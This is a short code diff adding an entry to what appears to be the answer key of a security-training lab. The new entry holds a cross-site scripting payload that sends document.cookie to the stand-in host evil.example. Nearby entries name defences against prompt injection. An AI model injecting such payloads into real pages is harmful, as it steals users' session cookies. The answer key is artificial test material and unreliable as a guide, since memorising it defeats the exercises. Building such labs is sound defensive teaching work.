@@ -40,4 +40,9 @@ export const LAB_SOLUTIONS: Readonly<Record<string, { attack: string; fix: reado
     fix: ['spotlighting', 'humanApproval'],
     tempting: ['dualLlm'],
   },
+  'ticket-render': {
+    attack: 'Hi! <img src=x onerror="fetch(\'https://evil.example/c?s=\'+document.cookie)">',
+    fix: ['outputEncoding'],
+    tempting: ['stripMarkup'],
+  },
 };
